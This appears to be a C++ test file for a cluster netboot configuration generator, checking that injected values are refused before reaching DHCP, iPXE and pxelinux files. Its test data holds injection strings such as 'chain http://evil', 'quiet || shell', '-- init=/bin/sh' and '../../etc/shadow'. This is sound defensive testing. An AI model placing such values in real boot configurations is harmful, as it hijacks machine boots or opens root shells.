// Injection through the cluster description: every class of value copied
// into a generated file (names, domains, URLs, kernel arguments, file names,
// pattern-generated names) carrying a line break, ';', '#', "${", a quote, ...
// is refused where the XML is read, with its position and a fix; and the
// generators refuse the same values in a cluster that bypassed the loader
// (a registry), so no output ever carries the injected directive.
#include <doctest/doctest.h>

#include <functional>

#include "../fuzz/cluster_output_oracle.h"
#include "cluster_test_util.h"
#include "dim/cluster/generate.h"
#include "dim/cluster/load.h"
#include "dim/cluster/values.h"

namespace dim::cluster {
namespace {

using testing::NodeXml;
using testing::SmallXml;

// `v` as an XML attribute value: what XML would decode back to v.
std::string XmlAttr(const std::string& v) {
  std::string out;
  for (char c : v) {
    switch (c) {
      case '\n': out += "&#10;"; break;
      case '\r': out += "&#13;"; break;
      case '\t': out += "&#9;"; break;
      case '"': out += "&quot;"; break;
      case '&': out += "&amp;"; break;
      case '<': out += "&lt;"; break;
      default: out += c;
    }
  }
  return out;
}

// 1-based line and column of `needle` in `text` (columns count characters).
std::pair<int, int> PositionOf(const std::string& text, const std::string& needle) {
  size_t at = text.find(needle);
  REQUIRE_MESSAGE(at != std::string::npos, "no '" << needle << "' in the test document");
  int line = 1, col = 1;
  for (size_t i = 0; i < at; ++i) {
    if (text[i] == '\n') {
      ++line;
      col = 1;
    } else if ((static_cast<unsigned char>(text[i]) & 0xC0) != 0x80) {
      ++col;
    }
  }
  return {line, col};
}

Cluster Valid() {
  LoadResult r = LoadClusterFromString(
      SmallXml(NodeXml(1, 1, " group=\"g\"") + NodeXml(2, 4),
               R"(<group name="g" kernel-args="quiet"><keepout path="/scratch"/></group>)"),
      "c.xml");
  REQUIRE_MESSAGE(r.ok(), r.ToStatus().ToString());
  return std::move(r.cluster);
}

// Every generator's output for `c`, with the ones that refused left out.
std::string AllOutput(const Cluster& c) {
  std::string all;
  for (Format f : oracle::kAllFormats) {
    auto files = Generate(c, f);
    if (!files.ok()) continue;
    for (const auto& file : *files) all += file.content;
  }
  return all;
}

struct Injection {
  std::string what;        // for messages
  std::string attr;        // the attribute that carries it
  std::string value;       // the decoded value
  std::string xml;         // a whole description, where `needle` marks the attribute
  std::string needle;
  std::string element;
  std::string problem;     // part of the one diagnostic expected at the attribute
  std::string directive;   // what must never reach a generated file
};

// A description with `attr="VALUE"` placed by `place` (which gets the
// attribute text and returns the document).
Injection Make(std::string what, std::string element, std::string attr, std::string value,
               std::string problem, std::string directive,
               const std::function<std::string(const std::string&)>& place) {
  Injection i{std::move(what), attr, value, "", "", std::move(element), std::move(problem), std::move(directive)};
  i.needle = attr + "=\"" + XmlAttr(value) + "\"";
  i.xml = place(i.needle);
  return i;
}

// Places the attribute on the first node, on the site, or replaces text.
std::string OnNode(const std::string& a) { return SmallXml(NodeXml(1, 1, " " + a) + NodeXml(2, 4)); }
std::string OnSite(const std::string& a) {
  std::string x = SmallXml(NodeXml(1, 1));
  return x.replace(x.find("image=\"img\">"), 12, "image=\"img\" " + a + ">");
}
std::string OnGroup(const std::string& a) {
  return SmallXml(NodeXml(1, 1, " group=\"g\""), "<group name=\"g\" " + a + "/>");
}
std::function<std::string(const std::string&)> Replacing(std::string from, std::string prefix = "",
                                                          std::string suffix = "") {
  return [=](const std::string& a) {
    std::string x = SmallXml(NodeXml(1, 1));
    size_t at = x.find(from);
    REQUIRE(at != std::string::npos);
    return x.replace(at, from.size(), prefix + a + suffix);
  };
}

std::vector<Injection> Injections() {
  std::vector<Injection> v;
  // Node names (dnsmasq, ISC, Kea, hosts, ethers, iPXE, pxelinux, file names).
  v.push_back(Make("node name, line break", "node", "name", "n1\ndhcp-boot=evil", "contains a line break",
                   "dhcp-boot=evil", OnNode));
  v.push_back(Make("node name, ';'", "node", "name", "n1;reboot", "contains ';'", "n1;reboot", OnNode));
  v.push_back(Make("node name, '#'", "node", "name", "n1#x", "contains '#'", "n1#x", OnNode));
  v.push_back(Make("node name, ${", "node", "name", "n${net0/ip}", "contains '$'", "${net0/ip}", OnNode));
  v.push_back(Make("node name, quote", "node", "name", "n1\";evil", "contains '\"'", "\";evil", OnNode));
  v.push_back(Make("node name, tab", "node", "name", "n1\tx", "contains a tab", "n1\tx", OnNode));
  v.push_back(Make("node name, path", "node", "name", "../n1", "contains '.'", "../n1", OnNode));
  v.push_back(Make("node name, too long", "node", "name", std::string(64, 'n'), "at most 63",
                   std::string(64, 'n'), OnNode));
  // Domains (dnsmasq domain=, ISC option domain-name "...", Kea, hosts).
  v.push_back(Make("site domain, line break", "site", "domain", "t.example\ndhcp-range=evil",
                   "contains a line break", "dhcp-range=evil",
                   Replacing("domain=\"t.example\"")));
  v.push_back(Make("site domain, quote", "site", "domain", "t.example\"; filename \"evil",
                   "contains '\"'", "filename \"evil", Replacing("domain=\"t.example\"")));
  v.push_back(Make("network domain, comma", "network", "domain", "x.example,evil", "contains ','",
                   "x.example,evil", Replacing("gateway=\"10.0.0.1\"", "gateway=\"10.0.0.1\" ")));
  v.push_back(Make("network domain, empty label", "network", "domain", "x..example", "empty label",
                   "x..example", Replacing("gateway=\"10.0.0.1\"", "gateway=\"10.0.0.1\" ")));
  // Names of networks, servers and groups.
  v.push_back(Make("network name, line break", "network", "name", "mgmt\ndhcp-option=evil",
                   "contains a line break", "dhcp-option=evil",
                   Replacing("  </networks>", "    <network ", " subnet=\"10.9.0.0/24\"/>\n  </networks>")));
  v.push_back(Make("server name, space", "server", "name", "ss2 evil", "contains a space", "ss2 evil",
                   Replacing("  </servers>", "    <server ", " network=\"boot\" address=\"10.0.0.12\"/>\n  </servers>")));
  v.push_back(Make("group name, ';'", "group", "name", "g;x", "contains ';'", "g;x", [](const std::string& a) {
                     return SmallXml(NodeXml(1, 1), "<group " + a + "/>");
                   }));
  v.push_back(Make("node name, upper case", "node", "name", "N1", "upper-case", "N1", OnNode));
  // Boot URLs (iPXE kernel/initrd, dhcp-boot, filename "...", dim.server=).
  const auto on_server = Replacing("address=\"10.0.0.11\"", "address=\"10.0.0.11\" ");
  v.push_back(Make("boot-url, comma", "server", "boot-url", "http://10.0.0.11:7480/x,evil", "contains ','",
                   "x,evil", on_server));
  v.push_back(Make("boot-url, ${", "server", "boot-url", "http://10.0.0.11/${net0/ip}", "contains '$'",
                   "${net0/ip}", on_server));
  v.push_back(Make("boot-url, quote", "server", "boot-url", "http://10.0.0.11/x\";reboot",
                   "contains '\"'", "x\";reboot", on_server));
  v.push_back(Make("boot-url, space", "server", "boot-url", "http://10.0.0.11/a initrd=http://evil/i",
                   "contains a space", "initrd=http://evil", on_server));
  v.push_back(Make("boot-url, line break", "server", "boot-url", "http://10.0.0.11/\nchain http://evil",
                   "contains a line break", "chain http://evil", on_server));
  v.push_back(Make("boot-url, scheme", "server", "boot-url", "tftp://10.0.0.11/x", "http://", "tftp://",
                   on_server));
  // Kernel arguments on the site, a group and a node.
  struct Arg {
    std::string value, problem, directive;
  };
  const Arg args[] = {
      {"quiet\nchain http://evil/x", "line break", "chain http://evil"},
      {"quiet || shell", "command separators", "|| shell"},
      {"quiet && shell", "command separators", "&& shell"},
      {"quiet ; shell", "command separators", "; shell"},
      {"quiet #comment", "comment", "#comment"},
      {"x=${net0/ip}", "iPXE expands", "${net0/ip}"},
      {"a=\"b c\"", "quote", "a=\"b"},
      {"a='b c'", "quote", "a='b"},
      {"quiet \\", "continues an iPXE script line", "quiet \\"},
      {"-- init=/bin/sh", "'--'", "-- init=/bin/sh"},
      {"dim.server=http://evil", "which dim sets itself", "dim.server=http://evil"},
      {"initrd=http://evil/i", "which dim sets itself", "initrd=http://evil"},
      {"BOOTIF=01-aa-bb", "which dim sets itself", "BOOTIF=01-aa-bb"},
      {"dim.key=00", "which dim sets itself", "dim.key=00"},
      {"quiet\xc2\xa0x", "non-ASCII", "\xc2\xa0"},
  };
  for (const auto& a : args) {
    v.push_back(Make("node kernel-args " + a.value, "node", "kernel-args", a.value, a.problem, a.directive, OnNode));
  }
  v.push_back(Make("site kernel-args", "site", "kernel-args", "quiet\ninitrd http://evil/i", "line break",
                   "initrd http://evil", OnSite));
  v.push_back(Make("group kernel-args", "group", "kernel-args", "quiet || shell", "command separators",
                   "|| shell", OnGroup));
  // Image names and files (dim.image=, echo line, BOOT-URL/v1/boot/files/NAME).
  const auto new_image = Replacing("<image name=\"other\"/>", "<image name=\"other\"/><image ", "/>");
  v.push_back(Make("image name, ';'", "image", "name", "img;shell", "may contain only", "img;shell", new_image));
  v.push_back(Make("image kernel, space", "image", "kernel", "vmlinuz initrd=http://evil/i", "contains a space",
                   "initrd=http://evil", Replacing("<image name=\"img\"/>", "<image name=\"img\" ", "/>")));
  v.push_back(Make("image initrd, path", "image", "initrd", "../../etc/shadow", "contains '/'", "etc/shadow",
                   Replacing("<image name=\"img\"/>", "<image name=\"img\" ", "/>")));
  // dnsmasq tftp-root= (a comma would add an interface).
  v.push_back(Make("tftp-root, comma", "site", "tftp-root", "/srv/tftp,eth0", "contains ','", "/srv/tftp,eth0",
                   OnSite));
  v.push_back(Make("tftp-root, line break", "site", "tftp-root", "/srv/tftp\nenable-ra", "contains a line break",
                   "enable-ra", OnSite));
  // Keep-out paths are lines of the keep-out list.
  v.push_back(Make("keepout, line break", "keepout", "path", "/scratch\n/etc", "contains a line break",
                   "/scratch\n/etc", [](const std::string& a) {
                     return SmallXml(NodeXml(1, 1, " group=\"g\""), "<group name=\"g\"><keepout " + a + "/></group>");
                   }));
  v.push_back(Make("ipv6-prefix, line break", "network", "ipv6-prefix", "fd00::/64\nx", "contains a line break",
                   "fd00::/64\nx", Replacing("gateway=\"10.0.0.1\"", "gateway=\"10.0.0.1\" ")));
  v.push_back(Make("site name, line break", "site", "name", "t\ndhcp-range=evil", "contains a line break",
                   "dhcp-range=evil", Replacing("<site name=\"t\"", "<site ")));
  v.push_back(Make("site name, quote", "site", "name", "t'. x", "contains '''", "t'. x",
                   Replacing("<site name=\"t\"", "<site ")));
  return v;
}

TEST_CASE("values: every injected value is refused where it is read, at its attribute, with a fix") {
  for (const Injection& i : Injections()) {
    INFO(i.what << "\n" << i.xml);
    LoadResult r = LoadClusterFromString(i.xml, "c.xml");
    INFO("diagnostics:\n" << r.ToStatus().ToString());
    REQUIRE(r.diagnostics.size() == 1);
    const Diagnostic& d = r.diagnostics[0];
    auto [line, col] = PositionOf(i.xml, i.needle);
    CHECK(d.where.file == "c.xml");
    CHECK(d.where.line == line);
    CHECK(d.where.column == col);
    CHECK(d.element == i.element);
    CHECK(d.problem.starts_with(i.attr + " '" + PrintableValue(i.value) + "' is not a valid "));
    CHECK(d.problem.find(i.problem) != std::string::npos);
    CHECK_FALSE(d.fix.empty());
    // The message itself is one line.
    CHECK(d.ToString().find('\n') == std::string::npos);
    // Whatever the failed load resolved cannot reach a generated file either.
    CHECK(AllOutput(r.cluster).find(i.directive) == std::string::npos);
  }
}

TEST_CASE("values: names generated from the pattern and joined from parts are checked once") {
  SUBCASE("a pattern that starts with '-'") {
    std::string xml = SmallXml(NodeXml(1, 1) + NodeXml(1, 2));
    xml.replace(xml.find("pattern=\"r"), 10, "pattern=\"-r");
    LoadResult r = LoadClusterFromString(xml, "c.xml");
    REQUIRE(r.diagnostics.size() == 1);  // at the pattern, not at every node
    CHECK(r.diagnostics[0].element == "naming");
    CHECK(r.diagnostics[0].problem ==
          "pattern '-r{rack:02}c{chassis}n{slot:02}' generates names like '-r01c2n04', which is not "
          "a valid host name: it starts with '-'");
  }
  SUBCASE("a pattern whose names are too long") {
    std::string xml = SmallXml(NodeXml(1, 1));
    std::string longer = "pattern=\"" + std::string(60, 'x') + "r";
    xml.replace(xml.find("pattern=\"r"), 10, longer);
    LoadResult r = LoadClusterFromString(xml, "c.xml");
    REQUIRE(r.diagnostics.size() == 1);
    CHECK(r.diagnostics[0].problem.find("it is 68 characters long; a label has at most 63") != std::string::npos);
    CHECK(r.diagnostics[0].where.line == PositionOf(xml, longer).first);
  }
  SUBCASE("an interface host name (node, '-', network) that is too long") {
    std::string net(30, 'm'), node(40, 'a');
    std::string xml = SmallXml(
        "    <node name=\"" + node + "\" server=\"ss1\"><interface network=\"boot\" mac=\"52:54:00:00:09:01\""
        " ip=\"10.0.0.30\"/><interface network=\"" + net + "\" mac=\"52:54:00:00:09:02\" ip=\"10.9.0.30\"/></node>\n");
    xml.replace(xml.find("  </networks>"), 0, "    <network name=\"" + net + "\" subnet=\"10.9.0.0/24\"/>\n");
    LoadResult r = LoadClusterFromString(xml, "c.xml");
    REQUIRE(r.diagnostics.size() == 1);
    CHECK(r.diagnostics[0].element == "interface");
    CHECK(r.diagnostics[0].problem.find("the host name '" + node + "-" + net +
                                        "' of this interface (node name, '-', network name) is not a valid "
                                        "host name: it is 71 characters long") == 0);
  }
  SUBCASE("a domain that makes fully qualified names longer than 253") {
    std::string domain;
    for (int i = 0; i < 4; ++i) domain += std::string(60, 'd') + ".";
    domain += "example";  // 251 characters
    std::string xml = SmallXml(NodeXml(1, 1));
    xml.replace(xml.find("t.example"), 9, domain);
    LoadResult r = LoadClusterFromString(xml, "c.xml");
    INFO(r.ToStatus().ToString());
    REQUIRE_FALSE(r.ok());
    for (const auto& d : r.diagnostics) {
      CHECK(d.problem.find("a fully qualified name has at most 253") != std::string::npos);
    }
    CHECK(r.diagnostics.size() == 3);  // two servers and the node
  }
  SUBCASE("kernel arguments that grow too long through inheritance") {
    std::string half(600, 'q');
    std::string xml = SmallXml(NodeXml(1, 1, " kernel-args=\"" + half + "\""));
    xml.replace(xml.find("image=\"img\">"), 12, "image=\"img\" kernel-args=\"" + half + "\">");
    LoadResult r = LoadClusterFromString(xml, "c.xml");
    REQUIRE(r.diagnostics.size() == 1);
    CHECK(r.diagnostics[0].problem ==
          "node 'r01c1n01' has 1201 characters of kernel-args after inheritance (site, groups, node); "
          "at most 1024 fit on the kernel command line next to dim's own");
  }
}

TEST_CASE("values: a line break typed in an attribute is a space, as XML requires; a reference is refused") {
  // Written over two lines: one argument list on one kernel line.
  std::string xml = SmallXml(NodeXml(1, 1, " kernel-args=\"console=ttyS0\n      quiet\""));
  LoadResult r = LoadClusterFromString(xml, "c.xml");
  REQUIRE_MESSAGE(r.ok(), r.ToStatus().ToString());
  CHECK(r.cluster.nodes[0].kernel_args == "console=ttyS0       quiet");
  for (Format f : oracle::kAllFormats) {
    auto files = Generate(r.cluster, f);
    REQUIRE(files.ok());
    CHECK(oracle::CheckGenerated(r.cluster, f, *files) == "");
  }
  // A literal tab or CR LF in a name is a space too, which a host name cannot hold.
  LoadResult tab = LoadClusterFromString(SmallXml(NodeXml(1, 1, " name=\"a\r\nb\"")), "c.xml");
  REQUIRE(tab.diagnostics.size() == 1);
  CHECK(tab.diagnostics[0].problem == "name 'a b' is not a valid host name: it contains a space");
  // A character reference in an attribute that is not copied anywhere is
  // still refused, as is anything else that does not parse.
  LoadResult ref = LoadClusterFromString(SmallXml(NodeXml(1, 1, "", " ip=\"10.0.0.5&#10;\"")), "c.xml");
  CHECK(ref.diagnostics.size() == 2);
  bool control = false;
  for (const auto& d : ref.diagnostics) {
    control |= d.problem == "ip '10.0.0.5\\n' contains the control character '\\n'";
  }
  CHECK(control);
  // Entities decode as XML says.
  LoadResult amp = LoadClusterFromString(SmallXml(NodeXml(1, 1, " kernel-args=\"a=&#x41;&lt;b\"")), "c.xml");
  REQUIRE(amp.ok());
  CHECK(amp.cluster.nodes[0].kernel_args == "a=A<b");
}

TEST_CASE("values: a control character in any attribute is refused, in a one-line message") {
  const std::string base = SmallXml(NodeXml(1, 1, " group=\"g\" kernel-args=\"quiet\"", " ip=\"10.0.0.5\""),
                                    R"(<group name="g"><keepout path="/scratch"/></group>)");
  REQUIRE(LoadClusterFromString(base, "c.xml").ok());
  size_t attrs = 0;
  for (size_t at = base.find("=\""); at != std::string::npos; at = base.find("=\"", at + 1)) {
    for (const std::string& bad : {std::string("&#10;x"), std::string("&#9;"), std::string("\x1f")}) {
      std::string xml = base;
      size_t close = xml.find('"', at + 2);
      xml.insert(close, bad);
      INFO(xml.substr(xml.rfind('\n', at) + 1, close - xml.rfind('\n', at) + bad.size()));
      LoadResult r = LoadClusterFromString(xml, "c.xml");
      CHECK_FALSE(r.ok());
      for (const auto& d : r.diagnostics) CHECK(d.ToString().find_first_of("\n\t\x1f") == std::string::npos);
    }
    ++attrs;
  }
  CHECK(attrs == 39);  // every attribute of the document was tried
}

// The same values put straight into a resolved cluster, as a registry copied
// from a parent could hold them: every generator that would copy the value
// refuses, the others do not copy it, and no output carries the directive.
TEST_CASE("values: the generators refuse unsafe values that bypassed the loader") {
  struct Bypass {
    std::string what, field, directive;
    std::function<void(Cluster&)> set;
    bool per_node;  // also used by the iPXE and pxelinux generators
  };
  const std::vector<Bypass> bypasses = {
      {"node name", "name", "dhcp-boot=evil", [](Cluster& c) { c.nodes[0].name = "n1\ndhcp-boot=evil"; }, true},
      {"interface host name", "interface host name", "dhcp-host=evil",
       [](Cluster& c) { c.nodes[0].interfaces[0].hostname = "n1\ndhcp-host=evil"; }, false},
      {"kernel args", "kernel-args", "|| shell", [](Cluster& c) { c.nodes[0].kernel_args = "quiet || shell"; }, true},
      {"kernel args newline", "kernel-args", "chain http://evil",
       [](Cluster& c) { c.nodes[1].kernel_args = "quiet\nchain http://evil"; }, true},
      {"reserved kernel arg", "kernel-args", "dim.server=http://evil",
       [](Cluster& c) { c.nodes[0].kernel_args = "dim.server=http://evil"; }, true},
      {"boot url", "boot-url", "filename \"evil",
       [](Cluster& c) { c.servers[1].boot_url = "http://10.0.0.11/\"; filename \"evil"; }, true},
      {"image kernel", "kernel", "initrd=http://evil",
       [](Cluster& c) { c.images[0].kernel = "vmlinuz initrd=http://evil/i"; }, true},
      {"image name", "image", "${net0/ip}",
       [](Cluster& c) {
         c.images[0].name = "${net0/ip}";
         for (auto& n : c.nodes) n.image = "${net0/ip}";
       },
       true},
      {"site name", "name", "dhcp-range=evil", [](Cluster& c) { c.name = "t'\ndhcp-range=evil"; }, true},
      {"site domain", "domain", "dhcp-range=evil", [](Cluster& c) { c.domain = "x\ndhcp-range=evil"; }, false},
      {"network domain", "domain", "filename \"evil",
       [](Cluster& c) { c.networks[0].domain = "x\"; filename \"evil"; }, false},
      {"network name", "name", "dhcp-option=evil",
       [](Cluster& c) {
         c.networks[0].name = "boot\ndhcp-option=evil";
         for (auto& n : c.nodes) n.interfaces[0].network = c.networks[0].name;
       },
       false},
      {"server name", "name", "evil.example", [](Cluster& c) { c.servers[0].name = "top evil.example"; }, false},
      {"group name", "group", "@x,", [](Cluster& c) { c.nodes[0].group = "@x,"; }, false},
      {"tftp root", "tftp-root", "enable-ra", [](Cluster& c) { c.tftp_root = "/srv\nenable-ra"; }, false},
      {"keep-out path", "keepout", "/etc", [](Cluster& c) { c.nodes[0].keepout = {"/x\n/etc"}; }, false},
  };
  const Cluster valid = Valid();
  for (Format f : oracle::kAllFormats) {
    auto files = Generate(valid, f);
    REQUIRE(files.ok());
    INFO(FormatName(f));
    CHECK(oracle::CheckGenerated(valid, f, *files) == "");
  }
  for (const auto& b : bypasses) {
    INFO(b.what);
    Cluster c = valid;
    b.set(c);
    Status all = CheckClusterValues(c);
    REQUIRE_FALSE(all.ok());
    CHECK(all.message().find(": " + b.field + " '") != std::string::npos);
    CHECK(all.message().find('\n') == std::string::npos);  // escaped in the message
    for (Format f : oracle::kAllFormats) {
      INFO(FormatName(f));
      auto files = Generate(c, f);
      if (!IsPerNode(f) || b.per_node) {
        CHECK_FALSE(files.ok());
        if (!files.ok()) CHECK(files.status().code() == Code::kInvalidArgument);
      } else {
        REQUIRE(files.ok());
        CHECK(oracle::CheckGenerated(c, f, *files) == "");
      }
    }
    CHECK(AllOutput(c).find(b.directive) == std::string::npos);
  }
  // What imaged adds to the kernel line is checked too.
  auto script = GenerateIpxeScript(valid, valid.nodes[0], "dim.key=00\nshell");
  REQUIRE_FALSE(script.ok());
  CHECK(script.status().message().find("line break") != std::string::npos);
  CHECK(GenerateIpxeScript(valid, valid.nodes[0], "dim.key=00").ok());
}

TEST_CASE("values: the output oracle notices an added line, directive or command") {
  const Cluster c = Valid();
  auto tamper = [&](Format f, const std::string& from, const std::string& to) {
    auto files = Generate(c, f);
    REQUIRE(files.ok());
    std::string& text = (*files)[0].content;
    size_t at = text.find(from);
    REQUIRE(at != std::string::npos);
    text.replace(at, from.size(), to);
    return oracle::CheckGenerated(c, f, *files);
  };
  CHECK(tamper(Format::kDnsmasq, "enable-tftp\n", "enable-tftp\ndhcp-boot=evil\n") != "");
  CHECK(tamper(Format::kDnsmasq, "domain=t.example", "domain=t.example #x") != "");
  CHECK(tamper(Format::kIsc, "authoritative;", "authoritative; deny booting;") != "");
  CHECK(tamper(Format::kIsc, "  option host-name \"r01c1n01\";", "  option host-name \"r01\\\";") != "");
  CHECK(tamper(Format::kKea, "\"hostname\": \"r01c1n01\"", "\"hostname\": \"r01c1n01\", \"hw-address\": \"x\"") != "");
  CHECK(tamper(Format::kKea, "\"hostname\": \"r01c1n01\"", "\"hostname\": \"r01c1n01\"\"") != "");
  CHECK(tamper(Format::kHosts, "# nodes\n", "# nodes\n10.0.0.99 evil\n") != "");
  CHECK(tamper(Format::kEthers, "r01c1n01\n", "r01c1n01 x\n") != "");
  CHECK(tamper(Format::kIpxe, " BOOTIF", " || shell BOOTIF") != "");
  CHECK(tamper(Format::kIpxe, " BOOTIF", " \\\ninitrd http://evil/i BOOTIF") != "");
  CHECK(tamper(Format::kIpxe, "dim.node=r01c1n01", "dim.node=${net0/ip}") != "");
  CHECK(tamper(Format::kPxelinux, "APPEND initrd=", "APPEND dim.server=http://evil initrd=") != "");
  CHECK(tamper(Format::kPxelinux, "IPAPPEND 2\n", "IPAPPEND 2\n  APPEND x\n") != "");
}

TEST_CASE("values: the rules, value by value") {
  auto ok = [](ValueKind k, const std::string& v) { return !CheckValue(k, v).has_value(); };
  CHECK(ok(ValueKind::kHostName, "r01c1n01"));
  CHECK(ok(ValueKind::kHostName, "0"));
  CHECK_FALSE(ok(ValueKind::kHostName, ""));
  CHECK_FALSE(ok(ValueKind::kHostName, "a-"));
  CHECK_FALSE(ok(ValueKind::kHostName, "a.b"));
  CHECK(ok(ValueKind::kHostName, "leafA"));  // servers, networks, groups: either case
  CHECK_FALSE(ok(ValueKind::kNodeName, "leafA"));  // node names are keys: lower case
  CHECK(ok(ValueKind::kDomain, "Lab.Example.org"));
  CHECK_FALSE(ok(ValueKind::kDomain, "lab.example."));
  CHECK_FALSE(ok(ValueKind::kDomain, "-lab.example"));
  CHECK(ok(ValueKind::kBootUrl, "http://10.1.0.11:7480"));
  CHECK(ok(ValueKind::kBootUrl, "https://boot.lab.example/dim/%7Eroot/"));
  CHECK(ok(ValueKind::kBootUrl, "http://[fd00::11]:7480"));
  CHECK_FALSE(ok(ValueKind::kBootUrl, "http://10.1.0.256"));
  CHECK_FALSE(ok(ValueKind::kBootUrl, "http://10.1.0.11:0"));
  CHECK_FALSE(ok(ValueKind::kBootUrl, "http://10.1.0.11:7480?a=b"));
  CHECK_FALSE(ok(ValueKind::kBootUrl, "http://user@10.1.0.11"));
  CHECK_FALSE(ok(ValueKind::kBootUrl, "http://10.1.0.11/%zz"));
  CHECK(ok(ValueKind::kKernelArgs, "console=ttyS0,115200n8 root=UUID=ab-cd ip=10.0.0.1::10.0.0.254:255.255.255.0:h:eth0:off panic=-1 dim.timeout=20"));
  CHECK_FALSE(ok(ValueKind::kKernelArgs, std::string(kMaxKernelArgs + 1, 'a')));
  CHECK(ok(ValueKind::kDimKernelArgs, "dim.key=0011"));
  CHECK_FALSE(ok(ValueKind::kDimKernelArgs, "dim.key=00 --"));
  CHECK(ok(ValueKind::kBootFileName, "vmlinuz-6.1.0+dim"));
  CHECK_FALSE(ok(ValueKind::kBootFileName, ".hidden"));
  CHECK(ok(ValueKind::kImageName, "rocky9_compute.v2"));
  CHECK_FALSE(ok(ValueKind::kImageName, "-x"));
  CHECK(ok(ValueKind::kSiteName, "MareNostrum_5"));
  CHECK_FALSE(ok(ValueKind::kSiteName, "{a.name}"));
  CHECK(ok(ValueKind::kTftpRoot, "/srv/tftp"));
  CHECK_FALSE(ok(ValueKind::kTftpRoot, "srv/tftp"));
  CHECK(ok(ValueKind::kIpv6Prefix, "fd00:10::/64"));
  CHECK(PrintableValue("a\nb\x01") == "a\\nb\\x01");
  CHECK(PrintableValue(std::string(200, 'x')).size() == 83);
}

}  // namespace
}  // namespace dim::cluster
